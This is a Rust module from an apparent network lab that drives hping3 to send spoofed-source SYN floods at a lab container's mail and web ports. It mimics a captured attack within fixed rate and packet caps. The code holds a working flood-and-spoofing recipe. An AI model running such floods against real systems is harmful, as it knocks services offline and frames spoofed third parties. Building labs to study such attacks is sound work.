//! The attacker with the real tool: hping3, spoofed sources, source port 80
//! kept constant, towards mail and web, as in the story's capture.
//!
//! hping3 sets the window and the MSS but has no option for window scale and
//! SACK (its SYN is 58 bytes long, the story's 66); [`crate::sender`] sends
//! the exact packet. One hping3 process runs for each source and port.

use std::net::Ipv4Addr;
use std::process::Stdio;

use anyhow::{Result, ensure};

use crate::address::{CONTAINER, PORTS, VICTIMS};
use crate::program::{self, Guarded};
use crate::seed_packet::{MSS, SOURCE_PORT, WINDOW};
use crate::topology::Topology;
use crate::wait;

/// Bounds of every flood of the lab, all processes together.
const MAX_PER_SECOND: u32 = 20_000;
const MAX_PACKETS: u32 = 500_000;

/// A flood to be sent by hping3.
#[derive(Debug, Clone)]
pub struct Plan {
    /// The spoofed sources.
    pub sources: Vec<Ipv4Addr>,
    /// Of all sources and ports together.
    pub per_second: u32,
    /// Of all sources and ports together, each an equal share.
    pub packets: u32,
    /// Further flags for hping3, as `-X` for ECE.
    pub flags: &'static [&'static str],
}

impl Plan {
    /// The story's two sources.
    pub fn seed(per_second: u32, packets: u32) -> Self {
        Self {
            sources: VICTIMS.into(),
            per_second,
            packets,
            flags: &[],
        }
    }
}

/// Running hping3 processes; dropping this ends them.
#[derive(Debug)]
pub struct Flood {
    processes: Vec<Guarded>,
}

impl Flood {
    /// Starts the flood from `internet` towards the container.
    ///
    /// # Errors
    /// When the plan goes beyond the lab's bounds, or hping3 is missing.
    pub fn start(topology: &Topology, plan: &Plan) -> Result<Self> {
        ensure!(
            plan.per_second <= MAX_PER_SECOND && plan.packets <= MAX_PACKETS,
            "a flood beyond the lab's bounds: {plan:?}"
        );
        let streams = u32::try_from(plan.sources.len() * PORTS.len())?;
        ensure!(streams > 0 && plan.per_second >= streams, "an empty flood");
        let mut processes = Vec::new();
        for source in &plan.sources {
            for port in PORTS {
                processes.push(hping3(topology, plan, streams, *source, port)?);
            }
        }
        Ok(Self { processes })
    }

    /// Waits until every hping3 has sent its share.
    pub fn finish(mut self) -> Result<()> {
        wait::until_true("the flood to end", wait::GENEROUS, || {
            self.processes.iter_mut().all(|child| !child.is_running())
        })
    }

    /// True while any hping3 is still sending.
    pub fn is_running(&mut self) -> bool {
        self.processes.iter_mut().any(Guarded::is_running)
    }

    /// Ends it now.
    pub fn stop(self) {}
}

fn hping3(
    topology: &Topology,
    plan: &Plan,
    streams: u32,
    source: Ipv4Addr,
    port: u16,
) -> Result<Guarded> {
    let interval = u64::from(streams) * 1_000_000 / u64::from(plan.per_second);
    let share = plan.packets.div_ceil(streams);
    let mut command = topology.internet.command("hping3");
    command.args(["--quiet", "--syn", "--keep"]);
    command.arg("--spoof").arg(source.to_string());
    command.arg("--baseport").arg(SOURCE_PORT.to_string());
    command.arg("--destport").arg(port.to_string());
    command.arg("--win").arg(WINDOW.to_string());
    command.arg("--tcp-mss").arg(MSS.to_string());
    // One packet replayed: a constant sequence number.
    command.args(["--setseq", "1"]);
    command.arg("--interval").arg(format!("u{interval}"));
    command.arg("--count").arg(share.to_string());
    command.args(plan.flags).arg(CONTAINER.to_string());
    command.stdout(Stdio::null()).stderr(Stdio::null());
    program::spawn(&mut command)
}
